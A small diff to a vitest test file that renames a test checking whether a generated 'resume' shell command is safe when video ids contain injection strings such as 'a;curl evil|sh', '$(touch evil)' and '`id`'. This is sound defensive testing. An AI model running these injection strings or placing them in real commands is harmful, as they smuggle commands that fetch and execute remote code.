@@ -3,7 +3,7 @@ import { expect, test } from "vitest";
 import { wayBackTo } from "../../src/render/way-back.ts";
 
 test.each(["v_1", "a;curl evil|sh", "$(touch evil)", "it's", "`id`", "-x", "a b"])(
-  "the command to take up %j is one that a shell can be given",
+  "the command to resume %j is one that a shell can be given",
   (id) => {
     const words = wayBackTo({ provider: "heygen", surface: "video", ids: { video_id: id } }, true) ?? "";
     const [, rest = ""] = words.split(": showreel ");
